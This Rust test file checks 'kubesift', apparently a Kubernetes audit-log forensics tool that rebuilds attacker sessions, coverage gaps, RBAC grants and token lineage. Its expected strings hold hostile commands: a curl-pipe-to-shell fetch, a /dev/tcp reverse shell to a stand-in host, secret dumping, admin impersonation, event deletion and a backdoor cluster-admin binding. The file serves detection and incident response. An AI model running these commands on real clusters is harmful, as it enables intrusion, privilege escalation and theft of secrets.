//! `kubesift sessions`, `coverage`, `access` and `lineage` on the sample cluster and on a
//! hand-written log of another shape (single-stage records, other names), driven through
//! the binary.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use common::{ks, repo, sample_index, stderr, stdout};
use serde_json::{Value, json};

fn run(index: &Path, args: &[&str]) -> String {
    let out = ks(index).args(args).output().unwrap();
    assert!(out.status.success(), "{args:?}: {}", stderr(&out));
    stdout(&out)
}

fn json_of(index: &Path, args: &[&str]) -> Value {
    serde_json::from_str(&run(index, args)).unwrap()
}

/// Every command line of every session, in order.
fn commands(sessions: &Value) -> Vec<String> {
    sessions
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| s["commands"].as_array().unwrap().iter())
        .map(|c| c["command"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn sessions_read_as_the_attackers_kubectl_commands() {
    let idx = sample_index();
    let s = json_of(
        idx,
        &["sessions", "--account", "shop:web", "--format", "json"],
    );
    let from_internet: Vec<&Value> = s
        .as_array()
        .unwrap()
        .iter()
        .filter(|x| x["source_ip"] == "198.51.100.77")
        .collect();
    assert!(!from_internet.is_empty());
    assert!(
        from_internet[0]["client"]
            .as_str()
            .unwrap()
            .starts_with("kubectl/v1.30.2")
    );
    let all = commands(&s);
    for expected in [
        "kubectl auth can-i --list",
        "kubectl get secrets -A",
        "kubectl exec -n shop web-cache-warmup -c warmup -- sh -c 'curl -s http://203.0.113.50/x.sh | sh'",
        "kubectl exec -n shop postgres-0 -c postgres -- bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'",
        "kubectl exec -it -n kube-system kube-proxy-wqnbr -c kube-proxy -- sh",
        "kubectl port-forward -n shop pod/postgres-0",
        "kubectl certificate approve ops-backup-qj9jk",
        "kubectl create token clusterrole-aggregation-controller -n kube-system",
        "kubectl delete events --all -n shop",
        "kubectl get secrets -n kube-system --as=kubernetes-admin",
    ] {
        assert!(
            all.iter().any(|c| c == expected),
            "missing {expected}: {all:#?}"
        );
    }
    // The kubelet exec through nodes/proxy is no kubectl command: curl.
    assert!(
        all.iter()
            .any(|c| c.starts_with("curl -X POST '/api/v1/nodes/worker-3/proxy/exec/")),
        "{all:#?}"
    );
    // The pod's own app polls from 10.244.2.7: a few lines with counts, not hundreds.
    let app: Vec<&Value> = s
        .as_array()
        .unwrap()
        .iter()
        .filter(|x| x["client"].as_str().unwrap().starts_with("web-frontend/"))
        .collect();
    assert!(
        app.iter()
            .all(|x| x["commands"].as_array().unwrap().len() <= 5)
    );
}

#[test]
fn sessions_of_one_credential_and_the_table_escape_nothing_raw() {
    let idx = sample_index();
    let s = json_of(
        idx,
        &[
            "sessions",
            "--credential",
            "JTI=604b68a3-94df-429c-a0cf-b4d89e4db31a",
            "--since",
            "2026-03-14T12:00:00Z",
            "--format",
            "json",
        ],
    );
    let list = s.as_array().unwrap();
    assert!(
        list.iter()
            .all(|x| x["start"].as_str().unwrap() >= "2026-03-14T12")
    );
    assert!(commands(&s).iter().any(|c| c == "kubectl get secrets -A"));
    let table = run(idx, &["sessions", "--account", "shop:web"]);
    assert!(table.contains("from 198.51.100.77"), "{table}");
    // The stolen token used with curl: the command as typed, and what it means in kubectl.
    assert!(
        table.contains("curl -X GET /api/v1/pods  ≈ kubectl get pods -A"),
        "{table}"
    );
    assert!(!table.contains('\x1b'));
    let jsonl = run(
        idx,
        &["sessions", "--account", "shop:web", "--format", "jsonl"],
    );
    assert_eq!(jsonl.lines().count(), list.len().max(jsonl.lines().count()));
    let out = ks(idx).args(["sessions"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "an identity is required");
}

/// The current sample file with the events of 13:52–13:58 cut out.
fn log_with_a_hole(dir: &Path) -> PathBuf {
    let text = std::fs::read_to_string(repo().join("sample-logs/audit.log")).unwrap();
    let kept: String = text
        .lines()
        .filter(|l| {
            let t = l
                .split("\"requestReceivedTimestamp\":\"")
                .nth(1)
                .unwrap_or_default();
            !(t.as_bytes().get(..16).is_some_and(|p| {
                p >= b"2026-03-14T13:52".as_slice() && p < b"2026-03-14T13:58".as_slice()
            }))
        })
        .fold(String::new(), |mut acc, l| {
            acc.push_str(l);
            acc.push('\n');
            acc
        });
    common::write(dir, "cut.log", kept)
}

#[test]
fn coverage_names_a_hole_cut_out_of_a_log_and_the_resources_without_bodies() {
    let tmp = tempfile::tempdir().unwrap();
    let log = log_with_a_hole(tmp.path());
    let idx = tmp.path().join("idx");
    run(&idx, &["index", log.to_str().unwrap()]);
    let c = json_of(&idx, &["coverage", "--format", "json"]);
    let gaps = c["gaps"].as_array().unwrap();
    assert!(
        gaps.iter().any(|g| g["scope"] == "input"
            && g["name"].as_str().unwrap().ends_with("cut.log")
            && g["from"].as_str().unwrap() < "2026-03-14T13:52:01"
            && g["to"].as_str().unwrap() >= "2026-03-14T13:58"),
        "{gaps:#?}"
    );
    let table = run(&idx, &["coverage"]);
    assert!(
        table.contains("[gap] no events from 2026-03-14T13:5"),
        "{table}"
    );
    let sample = json_of(sample_index(), &["coverage", "--format", "json"]);
    assert!(sample["gaps"].as_array().unwrap().is_empty(), "{sample:#}");
    let spots: Vec<String> = sample["blind_spots"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["what"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        spots
            .iter()
            .any(|w| w.starts_with("secrets written at Metadata")),
        "{spots:#?}"
    );
    assert!(
        spots
            .iter()
            .any(|w| w.starts_with("secrets read at Metadata"))
    );
    assert!(
        spots
            .iter()
            .any(|w| w.starts_with("configmaps written at Metadata"))
    );
    assert!(spots.iter().any(|w| w.contains("RequestReceived omitted")));
}

/// The sample logs 2 of its 5 Deployment writes with a body: the workload rules still fire on
/// those, so coverage must say they miss the rest, not that they cannot fire.
#[test]
fn regression_coverage_said_cannot_fire_of_rules_that_fired_on_the_writes_with_a_body() {
    let sample = json_of(sample_index(), &["coverage", "--format", "json"]);
    let spots = sample["blind_spots"].as_array().unwrap();
    let spot = |prefix: &str| {
        spots
            .iter()
            .find(|b| b["what"].as_str().unwrap().starts_with(prefix))
            .unwrap_or_else(|| panic!("no blind spot {prefix}: {spots:#?}"))
    };
    let partly = spot("deployments written at Metadata");
    let blind = partly["detections"].as_array().unwrap();
    assert!(!blind.is_empty(), "{partly:#}");
    assert!(blind.iter().all(|d| d["partial"] == true), "{partly:#}");
    let wholly = spot("configmaps written at Metadata");
    let blind = wholly["detections"].as_array().unwrap();
    assert!(blind.iter().all(|d| d["partial"] == false), "{wholly:#}");
    let table = run(sample_index(), &["coverage"]);
    assert!(
        table.contains("sees only the writes with a body: "),
        "{table}"
    );
    assert!(table.contains("blind to these: "), "{table}");
    assert!(
        !table.contains(": - "),
        "no placeholder for a missing number: {table}"
    );
}

/// One single-stage (`ResponseComplete`) record of a cluster unlike the sample.
fn event(t: u32, user: &str, verb: &str, uri: &str, obj: &Value, extra: &Value) -> String {
    let mut e = json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": format!("hand-{t:05}-{verb}"),
        "stage": "ResponseComplete",
        "requestURI": uri,
        "verb": verb,
        "user": {"username": user, "groups": ["system:authenticated"]},
        "sourceIPs": ["192.0.2.10"],
        "userAgent": "kubectl/v1.31.0 (darwin/arm64) kubernetes/abc",
        "objectRef": obj,
        "responseStatus": {"metadata": {}, "code": 200},
        "requestReceivedTimestamp": format!("2025-11-02T{:02}:{:02}:{:02}.000000Z", t / 3600, t / 60 % 60, t % 60),
        "stageTimestamp": format!("2025-11-02T{:02}:{:02}:{:02}.100000Z", t / 3600, t / 60 % 60, t % 60),
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}
    });
    if let (Some(m), Some(x)) = (e.as_object_mut(), extra.as_object()) {
        for (k, v) in x {
            m.insert(k.clone(), v.clone());
        }
    }
    format!("{e}\n")
}

/// A small cluster of another shape: every record single-stage, a controller polling every
/// 30 s for two hours with a 40-minute hole, pods created at Metadata, and an operator
/// `ops@corp.example` who lists every secret, execs into `billing/api-0` and binds
/// cluster-admin to a new service account.
fn other_cluster(dir: &Path) -> PathBuf {
    let mut log = String::new();
    let lease = json!({"resource": "leases", "namespace": "kube-node-lease", "name": "n1", "apiGroup": "coordination.k8s.io", "apiVersion": "v1"});
    for t in (0..7200).step_by(30) {
        if (3000..5400).contains(&t) {
            continue;
        }
        log.push_str(&event(
            t,
            "system:node:n1",
            "update",
            "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/n1",
            &lease,
            &json!({}),
        ));
    }
    let ops = "ops@corp.example";
    let secrets = json!({"resource": "secrets", "apiVersion": "v1"});
    let _ = write!(
        log,
        "{}{}{}{}{}",
        event(
            1000,
            ops,
            "list",
            "/api/v1/secrets?limit=500",
            &secrets,
            &json!({})
        ),
        event(
            1010,
            ops,
            "get",
            "/api/v1/namespaces/billing/pods/api-0",
            &json!({"resource": "pods", "namespace": "billing", "name": "api-0", "apiVersion": "v1"}),
            &json!({})
        ),
        event(
            1011,
            ops,
            "create",
            "/api/v1/namespaces/billing/pods/api-0/exec?command=cat&command=%2Fetc%2Fpasswd&container=app&stdin=true&stdout=true&tty=true",
            &json!({"resource": "pods", "namespace": "billing", "name": "api-0", "subresource": "exec", "apiVersion": "v1"}),
            &json!({})
        ),
        event(
            1020,
            ops,
            "create",
            "/api/v1/namespaces/billing/pods?fieldManager=kubectl-create",
            &json!({"resource": "pods", "namespace": "billing", "name": "miner", "apiVersion": "v1"}),
            &json!({})
        ),
        event(
            1030,
            ops,
            "create",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create",
            &json!({"resource": "clusterrolebindings", "name": "backdoor-admin", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}),
            &json!({"level": "RequestResponse", "requestObject": {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
                "metadata": {"name": "backdoor-admin"},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                "subjects": [{"kind": "ServiceAccount", "name": "helper", "namespace": "billing"}]}})
        ),
    );
    common::write(dir, "other.log", log)
}

#[test]
fn another_cluster_shape_single_stage_and_other_names() {
    let tmp = tempfile::tempdir().unwrap();
    let log = other_cluster(tmp.path());
    let idx = tmp.path().join("idx");
    run(&idx, &["index", log.to_str().unwrap()]);
    let s = json_of(
        &idx,
        &[
            "sessions",
            "--account",
            "ops@corp.example",
            "--format",
            "json",
        ],
    );
    let all = commands(&s);
    assert_eq!(
        all,
        [
            "kubectl get secrets -A",
            "kubectl exec -it -n billing api-0 -c app -- cat /etc/passwd",
            "kubectl create -f pods/miner -n billing",
            "kubectl create clusterrolebinding backdoor-admin",
        ],
        "{s:#}"
    );
    let c = json_of(&idx, &["coverage", "--format", "json"]);
    let spots: Vec<String> = c["blind_spots"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| {
            format!(
                "{} {}",
                b["kind"].as_str().unwrap(),
                b["what"].as_str().unwrap()
            )
        })
        .collect();
    assert!(
        spots
            .iter()
            .any(|w| w.starts_with("stage the RequestReceived stage is omitted")),
        "{spots:#?}"
    );
    assert!(
        spots
            .iter()
            .any(|w| w.starts_with("level pods written at Metadata")),
        "{spots:#?}"
    );
    assert!(
        spots
            .iter()
            .any(|w| w.starts_with("field 1 source address")),
        "{spots:#?}"
    );
    assert!(
        spots
            .iter()
            .any(|w| w.starts_with("gap no events from 2025-11-02T00:49:30")),
        "{spots:#?}"
    );
}

#[test]
fn access_shows_the_binding_to_cluster_admin_created_during_the_attack() {
    let idx = sample_index();
    let a = json_of(idx, &["access", "shop:web", "--format", "json"]);
    let a = &a[0];
    assert_eq!(a["subject"], "system:serviceaccount:shop:web");
    let grants = a["grants"].as_array().unwrap();
    let admin = grants
        .iter()
        .find(|g| g["binding"] == "shop-web-admin")
        .unwrap_or_else(|| panic!("{grants:#?}"));
    assert_eq!(admin["role"], "cluster-admin");
    assert_eq!(admin["gained"], true);
    assert_eq!(admin["created_by"], "system:serviceaccount:ci:deployer");
    assert!(
        admin["since"]
            .as_str()
            .unwrap()
            .starts_with("2026-03-14T11:58")
    );
    assert!(admin["allowed"].as_u64().unwrap() > 0);
    // The legacy grant existed before the data: not gained, told by the authorizer.
    let legacy = grants
        .iter()
        .find(|g| g["binding"] == "web-legacy-ops")
        .unwrap();
    assert_eq!(legacy["gained"], false);
    let used = a["used"].as_array().unwrap();
    assert!(
        used.iter()
            .any(|u| u["verb"] == "list" && u["resource"] == "secrets" && u["namespace"] == "")
    );
    // Before the binding was created it is not granted.
    let before = json_of(
        idx,
        &[
            "access",
            "shop:web",
            "--at",
            "2026-03-14T11:00:00Z",
            "--format",
            "json",
        ],
    );
    assert!(
        before[0]["grants"]
            .as_array()
            .unwrap()
            .iter()
            .all(|g| g["binding"] != "shop-web-admin")
    );
    let table = run(idx, &["access", "system:serviceaccount:shop:web"]);
    assert!(
        table.contains("ClusterRoleBinding shop-web-admin → ClusterRole cluster-admin"),
        "{table}"
    );
    assert!(table.contains("[GAINED]"));
}

#[test]
fn lineage_flags_the_token_and_the_kubelet_certificate_used_away_from_home() {
    let idx = sample_index();
    let l = json_of(
        idx,
        &[
            "lineage",
            "--credential",
            "JTI=604b68a3-94df-429c-a0cf-b4d89e4db31a",
            "--format",
            "json",
        ],
    );
    let l = &l[0];
    assert_eq!(l["kind"], "bound-token");
    assert_eq!(l["pod"], "shop/web-7d9f8b6c5d-k2x8p");
    assert_eq!(l["node"], "worker-2");
    assert!(!l["pod_uid"].as_str().unwrap().is_empty());
    assert!(
        l["pod_ips"]
            .as_array()
            .unwrap()
            .iter()
            .any(|ip| ip == "10.244.2.7")
    );
    let away: Vec<&Value> = l["addresses"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["away"] == true)
        .collect();
    assert_eq!(away.len(), 1, "{l:#}");
    assert_eq!(away[0]["value"], "198.51.100.77");
    assert!(l["clients"].as_array().unwrap().len() >= 5);
    let node = json_of(
        idx,
        &[
            "lineage",
            "--account",
            "system:node:worker-2",
            "--format",
            "json",
        ],
    );
    let cert = &node[0];
    assert_eq!(cert["kind"], "certificate");
    assert_eq!(cert["node_ips"], json!(["10.0.1.22"]));
    assert!(
        cert["flags"][0]
            .as_str()
            .unwrap()
            .starts_with("used from 198.51.100.77")
    );
    let table = run(idx, &["lineage", "--account", "shop:web"]);
    assert!(table.contains("AWAY"), "{table}");
}

#[test]
fn regression_lineage_listed_the_node_address_as_a_pod_address() {
    // A pod's status names its own address (status.podIP) and its node's (status.hostIP):
    // both were shown as the pod's. The node's address is the node's.
    let l = json_of(
        sample_index(),
        &["lineage", "--account", "shop:web", "--format", "json"],
    );
    let all = l.as_array().unwrap();
    assert!(
        all.iter()
            .any(|c| !c["pod_ips"].as_array().unwrap().is_empty())
    );
    for c in all {
        let pods: Vec<&str> = c["pod_ips"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        let nodes: Vec<&str> = c["node_ips"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        assert!(
            pods.iter()
                .all(|p| p.starts_with("10.244.") && !nodes.contains(p)),
            "pod {pods:?} node {nodes:?}"
        );
    }
}

#[test]
fn regression_a_session_of_one_request_said_1_requests() {
    let table = run(
        sample_index(),
        &["sessions", "--account", "system:anonymous"],
    );
    assert!(table.contains("  1 request, "), "{table}");
    assert!(!table.contains(" 1 requests"), "{table}");
    assert!(
        table.contains(" requests, "),
        "plural for more than one: {table}"
    );
}
